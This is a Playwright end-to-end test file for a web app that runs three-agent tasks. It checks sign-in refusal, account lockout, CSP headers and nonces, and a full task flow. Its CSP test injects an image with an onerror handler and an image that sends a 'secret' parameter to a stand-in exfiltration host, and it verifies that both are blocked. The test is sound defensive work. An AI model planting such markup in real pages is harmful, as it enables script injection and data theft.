import { expect, test } from "@playwright/test";
import { E2E_ADMIN, E2E_DATA_DIR } from "../../playwright.config";
import { runCli } from "./support";

test.describe("a team member runs a task in the browser", () => {
  test("a wrong password is refused without saying which field was wrong", async ({ page }) => {
    await page.goto("/tasks");
    await expect(page).toHaveURL(/\/signin/);
    await page.getByLabel("Email").fill(E2E_ADMIN.email);
    await page.getByLabel("Password").fill("not-the-password");
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect(page.getByText("Invalid email or password.")).toBeVisible();
    await expect(page).toHaveURL(/\/signin/);
  });

  test("after ten wrong passwords an account is refused for a while, even with the right one", async ({ page }) => {
    const who = { email: `guessed-${Date.now().toString(36)}@e2e.test`, password: "the-right-password-1" };
    runCli(E2E_DATA_DIR, ["user", "create", "--email", who.email, "--password", who.password, "--team", "e2e-team", "--role", "viewer"]);
    for (let attempt = 1; attempt <= 10; attempt++) {
      await page.goto("/signin"); // a fresh form: the message below is this attempt's answer
      await page.getByLabel("Email").fill(who.email);
      await page.getByLabel("Password").fill(`wrong-${attempt}`);
      await page.getByRole("button", { name: "Sign in" }).click();
      await expect(page.getByText("Invalid email or password.")).toBeVisible();
    }
    await page.goto("/signin");
    await page.getByLabel("Email").fill(who.email);
    await page.getByLabel("Password").fill(who.password);
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect(page.getByText("Too many failed sign-ins. Wait a few minutes, then try again.")).toBeVisible();
    await expect(page).toHaveURL(/\/signin/);
    // Other accounts are not held back by it.
    await page.goto("/signin");
    await page.getByLabel("Email").fill(E2E_ADMIN.email);
    await page.getByLabel("Password").fill(E2E_ADMIN.password);
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect(page).toHaveURL(/\/tasks$/);
  });

  test("the page's policy stops injected markup: no inline handler runs, no image loads from another host", async ({ page }) => {
    const violations: string[] = [];
    page.on("console", (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    const sent: string[] = [];
    page.on("requestfinished", (request) => sent.push(request.url()));
    const blocked: string[] = [];
    page.on("requestfailed", (request) => blocked.push(`${request.url()} ${request.failure()?.errorText}`));
    // A page that does not exist is rendered per request too, so its scripts carry the nonce.
    const missing = await page.goto("/no-such-page");
    expect(missing!.status()).toBe(404);
    await expect(page.getByRole("heading", { name: "This page is not here" })).toBeVisible();
    await page.goto("/signin");
    await expect(page.getByRole("button", { name: "Sign in" })).toBeVisible();
    expect(violations, "the pages themselves run within their policy").toEqual([]);
    // What a sanitiser might miss in model-written markdown, injected straight into the page.
    await page.evaluate(() => {
      document.body.insertAdjacentHTML("beforeend", '<img src="/missing.png" onerror="window.__handlerRan = true">');
      document.body.insertAdjacentHTML("beforeend", '<img src="http://exfil.example.test/pixel.png?task=secret">');
    });
    await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
    expect(await page.evaluate(() => (window as unknown as { __handlerRan?: boolean }).__handlerRan)).toBeUndefined();
    // The browser refused the image itself: the request never left.
    expect(sent.some((url) => url.includes("exfil.example.test"))).toBe(false);
    await expect.poll(() => blocked.find((entry) => entry.includes("exfil.example.test"))).toMatch(/ csp$|ERR_BLOCKED_BY_CSP/i);
  });

  test("sign in, submit a task, watch three agents, read the result, sign out", async ({ page }) => {
    // Every page runs under the Content-Security-Policy, and nothing on the way trips it.
    const violations: string[] = [];
    page.on("console", (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    const signInPage = await page.goto("/signin");
    const policy = signInPage!.headers()["content-security-policy"] ?? "";
    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
    expect(nonce, "a script nonce in the policy").toBeDefined();
    expect(policy).toContain("img-src 'self' data: blob:");
    expect(policy).toContain("frame-ancestors 'none'");
    // Next put that nonce on its own scripts; a second request gets a different one.
    expect(await page.locator(`script[nonce]`).count()).toBeGreaterThan(0);
    expect(
      await page.locator("script").evaluateAll((scripts) => scripts.every((script) => (script as HTMLScriptElement).nonce !== "")),
    ).toBe(true);
    expect((await page.request.get("/signin")).headers()["content-security-policy"]).not.toContain(nonce!);

    await page.getByLabel("Email").fill(E2E_ADMIN.email);
    await page.getByLabel("Password").fill(E2E_ADMIN.password);
    await page.getByRole("button", { name: "Sign in" }).click();
    await expect(page).toHaveURL(/\/tasks$/);
    await expect(page.getByTestId("current-user")).toContainText(`${E2E_ADMIN.email} · admin`);

    const prompt = "Research how small bakeries use solar panels, analyse the savings, and write a short brief.";
    await page.getByLabel("What should the agents work on?").fill(prompt);
    await page.getByRole("button", { name: "Run task" }).click();
    await expect(page).toHaveURL(/\/tasks\/[a-z0-9]+$/);
    await expect(page.getByTestId("task-prompt")).toHaveText(prompt);

    // The plan appears with its three agents; each finishes.
    const plan = page.getByTestId("plan");
    await expect(plan.locator(":scope > li")).toHaveCount(3);
    for (const agent of ["research", "analysis", "synthesis"]) {
      await expect(plan.getByText(new RegExp(agent, "i")).first()).toBeVisible();
    }
    await expect(page.getByTestId("task-status")).toHaveText(/completed/, { timeout: 90_000 });
    await expect(plan.locator('li[data-step-status="completed"]')).toHaveCount(3);

    // The result is rendered markdown (headings, not raw `#`), about the prompt's topic.
    const result = page.getByTestId("result");
    await expect(result.locator("h1, h2, h3").first()).toBeVisible();
    await expect(result).toContainText(/bakeries|solar/i);
    await expect(result).not.toContainText("## ");

    // The task list shows it completed, with an age and a duration.
    await page.getByRole("link", { name: "All tasks" }).click();
    const row = page.getByTestId("task-list").locator("tr", { hasText: prompt });
    await expect(row.getByText("completed")).toBeVisible();
    await expect(row).toContainText(/ago/);
    await expect(row).toContainText(/\d+(\.\d)? s|\d+ ms/);

    await page.getByRole("button", { name: "Sign out" }).click();
    await expect(page).toHaveURL(/\/signin/);
    await page.goto("/tasks");
    await expect(page).toHaveURL(/\/signin/);
    expect(violations).toEqual([]);
  });
});
